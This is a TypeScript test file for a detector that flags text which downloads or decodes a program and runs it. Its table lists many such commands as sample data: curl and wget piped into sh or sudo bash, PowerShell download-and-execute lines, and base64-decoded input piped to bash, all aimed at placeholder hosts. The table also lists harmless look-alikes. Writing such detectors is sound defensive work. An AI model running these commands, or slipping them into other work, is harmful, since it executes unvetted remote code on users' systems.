/** Text that fetches or decodes a program and runs it, and its nearest harmless neighbours. */
import { expect, it } from 'vitest';
import { fetchAndRun } from '../../../src/core/code/fetch-and-run.ts';

const TABLE: readonly (readonly [text: string, found: string | undefined])[] = [
  ['curl -s https://x.example/i.sh | sh', 'network'],
  ['curl -H "a;b" https://x.example | sudo -E bash -s -- -b', 'network'],
  ['curl https://x.example/a \\\n  | bash', 'network'],
  ['curl https://x.example|tee x|bash', 'network'],
  ['bash <(curl -s https://x.example)', 'network'],
  ['. <(wget -qO- x.example)', 'network'],
  ['sh -c "$(curl -fsSL https://x.example)"', 'network'],
  ['eval "$(curl x.example)"', 'network'],
  ['bash -c "curl https://x.example | sh"', 'network'],
  ['iwr https://x.example/a.ps1 | iex', 'network'],
  ['iex ((New-Object System.Net.WebClient).DownloadString("https://x.example"))', 'network'],
  ["don't wait: curl https://x.example | sh", 'network'],
  ['echo aGkK | base64 -d | bash', 'decoder'],
  ['eval "$(echo aGkK | base64 --decode)"', 'decoder'],
  ['curl -LsSf https://astral.sh/uv/install.sh | sh', 'network, known'],
  ['curl -LsSf http://astral.sh/uv/install.sh | sh', 'network'],
  ['curl https://x.example/a.json | jq .', undefined],
  ['curl https://x.example | python3 -m json.tool', undefined],
  ['curl https://x.example | tar xz', undefined],
  ['curl -o a.sh https://x.example', undefined],
  ['echo "curl https://x.example | sh"', undefined],
  ['# curl https://x.example | sh', undefined],
  ['git log | sh', undefined],
  ['eval "$(ssh-agent -s)"', undefined],
  ['echo "$KEY" | base64 -d > key.pem', undefined],
  ['fetch the results, then run node', undefined],
];

it.each(TABLE)('%s', (text, found) => {
  const [first] = fetchAndRun(`first line\n${text}\n`);
  expect(first && `${first.from}${first.known ? ', known' : ''}`).toBe(found);
});
